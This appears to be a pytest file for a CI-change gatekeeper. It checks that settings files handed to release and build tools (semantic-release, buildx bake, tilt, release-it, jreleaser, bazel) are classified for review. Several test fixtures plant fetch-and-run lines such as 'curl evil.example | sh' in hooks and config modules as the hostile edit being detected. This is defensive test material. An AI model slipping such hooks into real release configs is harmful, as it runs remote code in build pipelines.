"""Issue 12, `--tree`: more release, build and test-cluster tools a CI step hands a settings file by path (cfgarg2).

Round cfgarg read four tools' options (goreleaser, release-please, gcloud builds, catalog-cd). The same class, left
over: `semantic-release --extends ./tools/release.js` runs that module in the release job; `docker buildx bake -f`
builds and pushes the targets its file lists; `kind create cluster --config` sets up the cluster CI tests in (its
mounts and node images); `skaffold -f` and `tilt ci -f` build and deploy; `release-it -c` and JReleaser's
`--config-file` run their hooks; `release-plz --config` decides what is published; `bazel --bazelrc=` sets the flags
(and the status command) a CI build runs with. A GitHub action wrapping the tool takes the file as an input
(`release-please-action` `config-file`, `bake-action` `files`, `kind-action` `config`, `semantic-release-action`
`extends`). Under a name and folder no rule knows each file was `src`/`other`, and a change editing it alone was
allowed (`gate --tree` exit 0 on f1405b6). Look-alikes stay as they were: the words in another command (`docker
build -f`, `kind get clusters`, `echo semantic-release`), a linter's `-c`, an action's input of another action.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from citools import WORKFLOW, release_repo
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

from gatekeeper.classify.ciconfigs import named

# name: (the step's command, the file it hands the tool, the file's base text, its new text)
HANDED: dict[str, tuple[str, str, str, str]] = {
    "semantic-release": ("npx semantic-release --extends ./tools/release.js", "tools/release.js",
                         "module.exports = {branches: ['main']}\n",
                         "require('child_process').execSync('curl https://evil.example | sh')\n"),
    "semantic-release -e": ("npx --yes semantic-release -e ./config/publish.cjs --dry-run", "config/publish.cjs",
                            "module.exports = {}\n", "module.exports = {plugins: ['evil']}\n"),
    "buildx bake": ("docker buildx bake -f build/images.json --push", "build/images.json",
                    '{"target": {"app": {"tags": ["x/app:1"]}}}\n', '{"target": {"app": {"tags": ["evil/app:1"]}}}\n'),
    "docker bake --file": ("docker bake --file=build/targets.json release", "build/targets.json",
                           '{"group": {}}\n', '{"group": {"default": {"targets": ["evil"]}}}\n'),
    "tilt": ("tilt ci --file tools/ci.tilt", "tools/ci.tilt", "print('ok')\n", "local('curl evil.example | sh')\n"),
    "release-it": ("npx release-it -c tools/release-it.json --ci", "tools/release-it.json", '{"git": {}}\n',
                   '{"hooks": {"after:release": "curl evil.example | sh"}}\n'),
    "release-plz": ("release-plz release --config tools/plz.toml", "tools/plz.toml", "[workspace]\n",
                    "[workspace]\npublish = true\n"),
    "jreleaser": ("jreleaser full-release --config-file tools/jr.yml", "tools/jr.yml", "project: {}\n",
                  "hooks:\n  command:\n    before:\n    - cmd: curl evil.example\n"),
    "bazel --bazelrc": ("bazel --bazelrc=tools/ci.rc.conf test //...", "tools/ci.rc.conf", "build --jobs=4\n",
                        "build --workspace_status_command=./evil.sh\n"),
}
# name: (a step using an action, the file an input names, base text, new text)
ACTION_STEPS: dict[str, tuple[str, str, str, str]] = {
    "release-please-action": ("      - uses: googleapis/release-please-action@v4\n        with:\n"
                              "          config-file: tools/rp-config.json\n"
                              "          manifest-file: tools/rp-manifest.json\n",
                              "tools/rp-config.json", '{"packages": {}}\n', '{"packages": {"evil": {}}}\n'),
    "bake-action": ("      - uses: docker/bake-action@v5\n        with:\n          push: true\n          files: |\n"
                    "            ./build/base.json\n            ./build/extra.json\n",
                    "build/extra.json", '{"target": {}}\n', '{"target": {"x": {"tags": ["evil/x"]}}}\n'),
    # docs review 52: bake-action v6 names a local file beside a Git context with `cwd://`
    "bake-action cwd://": ("      - uses: docker/bake-action@v6\n        with:\n          push: true\n"
                           "          files: |\n            cwd://build/local.json\n",
                           "build/local.json", '{"target": {}}\n', '{"target": {"x": {"tags": ["evil/x"]}}}\n'),
    "semantic-release-action": ("      - uses: cycjimmy/semantic-release-action@v4\n        with:\n"
                                "          extends: ./tools/sr.js\n",
                                "tools/sr.js", "module.exports = {}\n", "module.exports = {x: 1}\n"),
}
# A kind cluster's and skaffold's settings hold `apiVersion` and `kind`: `iac` by content already, and they stay so
# when a step hands them to the tool (reviewed; never lowered to ci's reader's src): (command or step, path, text)
ALREADY: dict[str, tuple[str, str, str]] = {
    "kind": ("      - run: kind create cluster --name e2e --config test/e2e/cluster.yaml\n", "test/e2e/cluster.yaml",
             "kind: Cluster\napiVersion: kind.x-k8s.io/v1alpha4\nnodes:\n- role: control-plane\n"),
    "skaffold": ("      - run: skaffold run -p ci -f tools/dev-loop.yaml\n", "tools/dev-loop.yaml",
                 "apiVersion: skaffold/v4beta6\nkind: Config\nbuild:\n  artifacts:\n  - image: app\n"),
    "kind-action": ("      - name: cluster\n        with:\n          config: hack/cluster.yml\n"
                    "        uses: helm/kind-action@v1\n", "hack/cluster.yml",
                    "kind: Cluster\napiVersion: kind.x-k8s.io/v1alpha4\n"),
}
# look-alikes: the same words in other commands, other tools' settings; each file edited, none made ci
LOOK_ALIKES: dict[str, tuple[str, str]] = {
    "docker build": ("docker build -f tools/app.json .", "tools/app.json"),
    "docker compose": ("docker compose -f tools/stack.txt up -d", "tools/stack.txt"),
    "kind get": ("kind get clusters --config tools/kind-note.txt", "tools/kind-note.txt"),
    "eslint": ("npx eslint -c tools/lint.json src", "tools/lint.json"),
}


def _assert_reviewed(root: Path, first: str, last: str, path: str) -> None:
    found = tree_classify(root, first, last)
    assert found[path]["bucket"] == "ci", found
    assert found[path]["rule"] == "ci.context.ci-run", found
    code, decision = tree_gate(root, first, last)
    assert code == 3 and decision["outcome"] == "review", decision


@each_case("how, case", [(how, case) for how in ["step", "script"] for case in sorted(HANDED)])
def test_a_file_ci_hands_a_build_or_release_tool_is_ci(tmp_path: Path, how: str, case: str) -> None:
    """Each file edited alone: src/other and allowed (exit 0) on f1405b6; now ci and reviewed."""
    command, path, before, after = HANDED[case]
    root, first, last = release_repo(tmp_path, how, {path: after}, [command], {"README.md": "x\n", path: before})
    _assert_reviewed(root, first, last, path)


@each_case("case", sorted(ACTION_STEPS))
def test_a_file_an_action_input_hands_its_tool_is_ci(tmp_path: Path, case: str) -> None:
    """The action wrapping the tool takes the file as an input: src/other and allowed on f1405b6; now ci."""
    step, path, before, after = ACTION_STEPS[case]
    base = {"README.md": "x\n", path: before, ".github/workflows/release.yml": WORKFLOW.format(steps=step)}
    repo, first, last = two_commits(tmp_path / "r", base, {path: after})
    _assert_reviewed(repo.root, first, last, path)


@pytest.mark.parametrize("case", sorted(ALREADY))
def test_a_handed_cluster_or_deploy_setting_stays_iac(tmp_path: Path, case: str) -> None:
    step, path, text = ALREADY[case]
    base = {"README.md": "x\n", path: text, ".github/workflows/e2e.yml": WORKFLOW.format(steps=step)}
    repo, first, last = two_commits(tmp_path / "r", base, {path: text + "- role: worker\n"})
    assert tree_classify(repo.root, first, last)[path]["bucket"] == "iac"
    assert tree_gate(repo.root, first, last)[0] == 3


@pytest.mark.parametrize("how", ["step", "script"])
def test_the_same_words_in_other_commands_stay_as_they_were(tmp_path: Path, how: str) -> None:
    base = {"README.md": "x\n", **{path: "a: 1\n" for _c, path in LOOK_ALIKES.values()}}
    edited = {path: "a: 2\n" for _c, path in LOOK_ALIKES.values()}
    root, first, last = release_repo(tmp_path, how, edited, [c for c, _p in LOOK_ALIKES.values()], base)
    found = tree_classify(root, first, last)
    assert all(found[path]["bucket"] != "ci" for path in edited), found


def test_another_actions_input_of_the_same_name_names_nothing(tmp_path: Path) -> None:
    """`config:` and `files:` of an action that is not the tool's (a labeler's, an uploader's) stay as they were."""
    step = ("      - uses: actions/labeler@v5\n        with:\n          config: tools/labels.yml\n"
            "      - uses: actions/upload-artifact@v4\n        with:\n          files: tools/out.json\n")
    base = {"README.md": "x\n", "tools/labels.yml": "a: 1\n", "tools/out.json": "{}\n",
            ".github/workflows/release.yml": WORKFLOW.format(steps=step)}
    repo, first, last = two_commits(tmp_path / "r", base, {"tools/labels.yml": "a: 2\n", "tools/out.json": "[]\n"})
    found = tree_classify(repo.root, first, last)
    assert found["tools/labels.yml"]["bucket"] != "ci" and found["tools/out.json"]["bucket"] != "ci", found


def test_a_goreleaser_image_run_by_docker_is_still_read(tmp_path: Path) -> None:
    """`docker` is a tool now (bake): a `docker run ... goreleaser/goreleaser -f X` line still hands X to goreleaser."""
    assert named("docker run --rm -v $PWD:/src goreleaser/goreleaser release -f tools/gr.yaml") == ["tools/gr.yaml"]


@each_case(("line", "expected"), [
    ("npx semantic-release --extends ./a.js", ["a.js"]),
    ("docker buildx bake -f a.hcl -f b.json --set '*.platform=linux/amd64'", ["a.hcl", "b.json"]),
    ("docker-buildx bake --file=c.json", ["c.json"]),
    ("kind create cluster --config=kind/ci.yaml --wait 5m", ["kind/ci.yaml"]),
    ("skaffold build --filename ci/sk.yaml", ["ci/sk.yaml"]),
    ("bazelisk --bazelrc=.ci.bazelrc build //...", [".ci.bazelrc"]),
    ("docker build -f Dockerfile.bake .", []),
    ("kind load docker-image x --config nothing.yaml", []),
    ("semantic-release --dry-run", []),
    ("npx semantic-release --extends @company/release-config", []),  # a package, no path
])
def test_named(line: str, expected: list[str]) -> None:
    assert named(line) == expected
